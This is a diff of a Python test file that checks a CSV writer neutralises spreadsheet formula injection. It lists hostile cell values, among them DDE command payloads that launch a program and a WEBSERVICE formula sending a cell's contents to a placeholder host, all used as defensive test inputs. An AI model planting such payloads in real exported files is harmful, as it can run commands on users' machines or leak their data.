@@ -40,9 +40,19 @@ HOSTILE = (
 )  # fmt: skip
 RUN_BY_SPREADSHEETS = (
     "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    '=HYPERLINK("http://x.invalid","y")', "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "-1+SUM(A1:A9)",
+    '=HYPERLINK("http://x.invalid","y")', " =1+1", "＝1+1", "-1+SUM(A1:A9)",
+    '+WEBSERVICE ("http://x.invalid/"&A1)', "-1+SUM (A1:A9)", "+A1", "-a1", "+$A$1*2", "-1-A1", "+1e5e", "－A1",
+    "+Sheet2.A1", "-[1]x", "-(molar enthalpy) / (N_A e)",
 )  # fmt: skip
-LEFT_ALONE = ("", "-", "-1.5", "+3", "-1.2(3)", "-1.5e27", "-inf", "a=b", "YBa2Cu3O7-x", "-(molar enthalpy) / (N_A e)")
+RUN_AFTER_A_SEPARATOR = {
+    "\t=1+1": "'\t'=1+1", "\r=1+1": "'\n'=1+1", "+2;=1+1": "+2;'=1+1", "a\n=1\n-B2": "a\n'=1\n'-B2",
+    ";=1+1": ";'=1+1", "A1; =1+1": "A1;' =1+1", "a;b;+A1;c": "a;b;'+A1;c", "a\t@x": "a\t'@x",
+}  # fmt: skip
+LEFT_ALONE = (
+    "", "-", "." * 5000, "-" + "1." * 5000, "-1.5", "-0.5", "+2", "-1/6", "+3",
+    "-1.2(3)", "-1.5e27", "-1.5E-27 ± 2", "-1, -2", "-inf", "a=b", "YBa2Cu3O7-x",
+    "n = 1; T = 2", "1; -2; +3e5", "a + b",
+)  # fmt: skip
 
 
 def laughs(levels=10, width=9):
@@ -259,10 +269,10 @@ def test_a_link_out_of_the_folder_is_refused(pair, here):
 
 
 def test_no_cell_is_a_formula_for_a_spreadsheet(tmp_path):
-    cells = [*RUN_BY_SPREADSHEETS, *LEFT_ALONE]
+    cells = [*RUN_BY_SPREADSHEETS, *RUN_AFTER_A_SEPARATOR, *LEFT_ALONE]
     write_rows(tmp_path / "a.csv", ["label"], [{"label": cell} for cell in cells])
     found = [row["label"] for row in read_rows(tmp_path / "a.csv")]
-    assert found == [*(f"'{cell}".replace("\r", "\n") for cell in RUN_BY_SPREADSHEETS), *LEFT_ALONE]
+    assert found == [*(f"'{cell}" for cell in RUN_BY_SPREADSHEETS), *RUN_AFTER_A_SEPARATOR.values(), *LEFT_ALONE]
     assert csv_text(["a"], [[1.5], [None]]) == 'a\n1.5\n""\n'
 
 
